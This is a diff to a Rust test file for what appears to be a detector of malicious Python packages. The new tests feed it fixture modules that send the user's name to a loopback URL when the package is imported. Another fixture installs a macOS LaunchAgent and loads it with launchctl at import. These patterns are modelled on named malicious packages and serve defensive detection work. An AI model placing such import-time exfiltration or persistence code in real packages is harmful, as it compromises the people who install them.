@@ -128,3 +128,51 @@ fn a_pth_hook_that_execs_plain_harmless_code_is_not_flagged() {
         r.findings
     );
 }
+
+#[test]
+fn a_function_the_package_init_runs_at_import_runs_at_import() {
+    // bobikssf 0.4 (`from .bobik import main; main()`), chrome-stealth
+    // 0.1.0 (called from a thread's target), hooktest3 0.1.1 (imported in
+    // a function and handed to a thread).
+    let payload = "import getpass, urllib.request\ndef main():\n    urllib.request.urlopen('http://127.0.0.1:9/?u=' + getpass.getuser())\n";
+    for init in [
+        "from .payload import main\nmain()\n",
+        "import threading\nfrom pkg.payload import main\ndef _bg():\n    main()\nthreading.Thread(target=_bg).start()\n",
+        "import threading\ndef hook():\n    from .payload import main\n    threading.Thread(target=main).start()\nhook()\n",
+    ] {
+        let r = sdist(&[
+            ("setup.py", SETUP),
+            ("pkg/__init__.py", init),
+            ("pkg/payload.py", payload),
+        ]);
+        assert_eq!(r.verdict, Verdict::Malicious, "{init}: {:#?}", r.findings);
+        assert!(has(&r, "custody::network-egress", Phase::Import), "{init}");
+    }
+    // Imported for users to call: runs when they call it.
+    let r = sdist(&[
+        ("setup.py", SETUP),
+        (
+            "pkg/__init__.py",
+            "from .payload import main\n__all__ = ['main']\n",
+        ),
+        ("pkg/payload.py", payload),
+    ]);
+    assert!(
+        !has(&r, "custody::network-egress", Phase::Import),
+        "{:#?}",
+        r.findings
+    );
+    assert_ne!(r.verdict, Verdict::Malicious);
+}
+
+#[test]
+fn an_autostart_agent_written_made_executable_and_loaded_at_import_is_malicious() {
+    // hooktest3 0.1.1: a LaunchAgent for a script it writes, chmod, launchctl load.
+    let module = "import os, subprocess\ndef persist():\n    d = os.path.expanduser('~/Library/LaunchAgents')\n    p = os.path.join(d, 'placeholder.plist')\n    open(p, 'w').write('<plist/>')\n    os.chmod('/tmp/placeholder.sh', 0o755)\n    subprocess.run(['launchctl', 'load', p])\npersist()\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // A command a user runs to install a service is run time.
+    let cli = module.replace("persist()\n", "");
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", &cli)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
